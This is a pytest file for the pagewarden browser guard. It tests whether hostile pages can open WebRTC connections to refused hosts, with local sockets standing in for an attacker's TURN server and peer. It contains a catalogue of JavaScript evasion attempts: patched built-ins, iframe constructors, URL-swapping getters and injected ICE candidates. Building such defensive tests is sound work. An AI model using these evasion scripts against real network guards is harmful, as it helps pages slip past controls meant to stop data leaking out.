"""WebRTC without the network layer (issue 34): a hostile page's peer connection reaches no
STUN/TURN server or peer on a host the policies refuse. A UDP socket and a TCP listener on
127.0.0.1 stand for the attacker's TURN server and peer; they must receive nothing. Both ways:
a browser pagewarden did not launch (the session browser, whose Chromium sends UDP: the
controls show the page's routes really reach the sockets without the guard), and `launch()`,
whose Chromium sends no UDP at all."""

from __future__ import annotations

import asyncio
import itertools
import json
import socket
import time
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.async_api import Browser

from pagewarden import Guard, PolicySet, launch
from pagewarden.guard import GuardEvent
from pagewarden.testing import LocalSite, Response

pytestmark = pytest.mark.browser

_COUNTER = itertools.count()
ONLY_APP = PolicySet.from_dict({"version": 1, "policies": [
    {"id": "T-rtc", "category": "boundary", "risk_level": "high", "description": "The app only.",
     "rules": [{"domain_allow": ["app.test"]}]}]})  # fmt: skip
SECRET = "PWSECRET-rtc-0042"


@pytest.fixture
def udp() -> Iterator[socket.socket]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)
    yield sock
    sock.close()


@pytest.fixture
def tcp() -> Iterator[socket.socket]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield sock
    sock.close()


def received(udp: socket.socket, tcp: socket.socket, wait: float = 1.5) -> tuple[int, int]:
    """(datagrams, TCP connections) that reached the sockets, waiting `wait` s for stragglers."""
    deadline = time.monotonic() + wait
    datagrams = connections = 0
    while time.monotonic() < deadline:
        try:
            udp.recvfrom(4096)
            datagrams += 1
            continue
        except BlockingIOError:
            pass
        try:
            conn, _ = tcp.accept()
            conn.close()
            connections += 1
            continue
        except BlockingIOError:
            pass
        time.sleep(0.05)
    return datagrams, connections


def servers(udp_port: int, tcp_port: int) -> str:
    return json.dumps([
        {"urls": f"stun:127.0.0.1:{udp_port}"},
        {"urls": [f"turn:127.0.0.1:{udp_port}?transport=udp", f"turn:127.0.0.1:{tcp_port}?transport=tcp"],
         "username": SECRET, "credential": "p"},
    ])  # fmt: skip


#: each way a hostile page tries to get a peer connection to the sockets: `{S}` the ICE servers,
#: `{C}` a remote host candidate on the UDP socket, `{T}` a passive TCP candidate on the listener.
#: Each script sets `window.outcome` to 'refused' (the guard's NotAllowedError) or 'ran'; all but
#: `RUNS` are refused.
ROUTES: dict[str, str] = {
    "constructor": "const pc = new RTCPeerConnection({iceServers: {S}}); go(pc);",
    "legacy_name": "const pc = new webkitRTCPeerConnection({iceServers: {S}}); go(pc);",
    "set_configuration": "const pc = new RTCPeerConnection();"
    " pc.setConfiguration({iceServers: {S}}); go(pc);",
    "subclass": "class Mine extends RTCPeerConnection {}; const pc = new Mine({iceServers: {S}}); go(pc);",
    "getter_swaps_the_url": "let n = 0; const server = {get urls() { return n++ ? 'stun:127.0.0.1:{U}'"
    " : 'stun:app.test:3478'; }}; const pc = new RTCPeerConnection({iceServers: [server]}); go(pc);",
    "patched_builtins": "const saved = [String.prototype.toLowerCase, String.prototype.endsWith,"
    " RegExp.prototype.exec, Array.prototype[Symbol.iterator], Reflect.construct, Function.prototype.call];"
    " String.prototype.toLowerCase = () => 'app.test'; String.prototype.endsWith = () => true;"
    " RegExp.prototype.exec = () => ['stun:app.test', 'stun', 'app.test'];"
    " Array.prototype[Symbol.iterator] = function* () {}; Reflect.construct = (C, a, t) => new C(a[0]);"
    " Function.prototype.call = function () { return true; }; let pc;"
    " try { pc = new RTCPeerConnection({iceServers: {S}}); } finally {"
    " String.prototype.toLowerCase = saved[0]; String.prototype.endsWith = saved[1];"
    " RegExp.prototype.exec = saved[2]; Array.prototype[Symbol.iterator] = saved[3];"
    " Reflect.construct = saved[4]; Function.prototype.call = saved[5]; } go(pc);",
    "blank_iframe": "const f = document.createElement('iframe'); document.body.append(f);"
    " const pc = new f.contentWindow.RTCPeerConnection({iceServers: {S}}); go(pc);",
    "iframe_prototype_on_own_pc": "const f = document.createElement('iframe'); document.body.append(f);"
    " const pc = new RTCPeerConnection(); f.contentWindow.RTCPeerConnection.prototype.setConfiguration"
    ".call(pc, {iceServers: {S}}); go(pc);",
    "recovered_constructor": "const O = Object.getPrototypeOf(new RTCPeerConnection()).constructor;"
    " const pc = new O({iceServers: {S}}); go(pc);",
    "remote_candidate": "answer('{C}', 'sdp').catch(failed);",
    "added_candidate": "answer('{C}', 'add').catch(failed);",
    "tcp_candidate": "answer('{T}', 'add').catch(failed);",
}
#: the page swaps the URL after the guard read it: the connection runs with what the guard read
RUNS = {"getter_swaps_the_url"}
PAGE = """<!doctype html><body><script>
window.outcome = 'pending';
const done = (what) => { if (window.outcome === 'pending') window.outcome = what; };
const failed = (e) => done(e && e.name === 'NotAllowedError' ? 'refused' : 'error ' + e);
function go(pc) {
  pc.createDataChannel('leak');
  pc.createOffer().then(o => pc.setLocalDescription(o)).then(() => done('ran'), failed);
}
async function answer(candidate, how) {
  const offerer = new RTCPeerConnection(), answerer = new RTCPeerConnection();
  offerer.createDataChannel('leak');
  const offer = await offerer.createOffer();
  const sdp = how === 'sdp' ? offer.sdp + 'a=' + candidate + '\\r\\n' : offer.sdp;
  await answerer.setRemoteDescription({type: 'offer', sdp: sdp});
  await answerer.setLocalDescription(await answerer.createAnswer());
  if (how === 'add') await answerer.addIceCandidate({candidate: candidate, sdpMid: '0'});
  done('ran');
}
try { {R} } catch (e) { failed(e); }
window.addEventListener('unhandledrejection', (e) => failed(e.reason));
</script></body>"""


def _page(site: LocalSite, route: str, udp_port: int, tcp_port: int) -> str:
    script = (
        ROUTES[route]
        .replace("{S}", servers(udp_port, tcp_port))
        .replace("{U}", str(udp_port))
        .replace("{C}", f"candidate:1 1 udp 2122260223 127.0.0.1 {udp_port} typ host generation 0")
        .replace("{T}", f"candidate:2 1 tcp 1518280447 127.0.0.1 {tcp_port} typ host tcptype passive")
    )
    path = f"/rtc/{next(_COUNTER)}.html"
    site.route("app.test", path, lambda _r: Response(PAGE.replace("{R}", script)))
    return f"http://app.test{path}"


async def _outcome(raw: Any) -> str:
    await raw.wait_for_function("window.outcome !== 'pending'", timeout=20_000)
    return str(await raw.evaluate("window.outcome"))


@pytest.mark.parametrize("route", list(ROUTES))
async def test_a_browser_pagewarden_did_not_launch(
    browser: Browser, site: LocalSite, udp: socket.socket, tcp: socket.socket, route: str
) -> None:
    guard = Guard(ONLY_APP, goal="Use the app.")
    events: list[GuardEvent] = []
    guard.subscribe(events.append)
    context = await browser.new_context()
    try:
        guarded = guard.wrap(await context.new_page())
        await guarded.goto(_page(site, route, udp.getsockname()[1], tcp.getsockname()[1]))
        outcome = await _outcome(guarded.unwrap())
    finally:
        await context.close()
    assert received(udp, tcp) == (0, 0)
    assert outcome == ("ran" if route in RUNS else "refused")
    refused = [e.data for e in events if e.kind == "network" and e.data.get("action") == "webrtc"]
    assert all(d["host"] == "127.0.0.1" for d in refused)
    assert bool(refused) == (route not in RUNS)
    assert all(SECRET not in json.dumps(d) for d in refused)


@pytest.mark.parametrize("route", ["constructor", "remote_candidate"])
async def test_control_the_routes_reach_the_sockets_without_the_guard(
    browser: Browser, site: LocalSite, udp: socket.socket, tcp: socket.socket, route: str
) -> None:
    context = await browser.new_context()
    try:
        page = await context.new_page()
        await page.goto(_page(site, route, udp.getsockname()[1], tcp.getsockname()[1]))
        assert await _outcome(page) == "ran"
        await asyncio.sleep(2.0)  # ICE checks and allocations leave over a few hundred ms
    finally:
        await context.close()
    datagrams, _ = received(udp, tcp)
    assert datagrams > 0


async def test_allowed_ice_servers_and_no_servers_still_work(browser: Browser, site: LocalSite) -> None:
    guard = Guard(ONLY_APP, goal="Use the app.")
    context = await browser.new_context()
    try:
        guarded = guard.wrap(await context.new_page())
        path = f"/rtc/{next(_COUNTER)}.html"
        script = "const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:app.test:3478'}]}); go(pc);"
        site.route("app.test", path, lambda _r: Response(PAGE.replace("{R}", script)))
        await guarded.goto(f"http://app.test{path}")
        raw = guarded.unwrap()
        assert await _outcome(raw) == "ran"
        assert await raw.evaluate("new RTCPeerConnection() instanceof RTCPeerConnection")
        certificate = "RTCPeerConnection.generateCertificate({name: 'ECDSA', namedCurve: 'P-256'})"
        certificate += ".then(() => 'ok')"
        assert await raw.evaluate(certificate) == "ok"
    finally:
        await context.close()


async def test_launch_sends_no_udp_and_judges_tcp_relays(
    site: LocalSite, udp: socket.socket, tcp: socket.socket
) -> None:
    """`launch()` without the network layer: no datagram leaves (Chromium's flag); the TCP relay
    on a refused host is refused by the page's script; with no host rule (nothing to refuse)
    the relay runs, and still no datagram leaves."""
    for policies, expected in ((ONLY_APP, "refused"), (None, "ran")):
        async with launch(policies=policies, goal="Use the app.", host_map={"*.test": site.port}) as page:
            await page.goto(_page(site, "constructor", udp.getsockname()[1], tcp.getsockname()[1]))
            assert await _outcome(page.unwrap()) == expected
            await asyncio.sleep(1.0)
        datagrams, connections = received(udp, tcp)
        assert datagrams == 0
        if expected == "refused":
            assert connections == 0
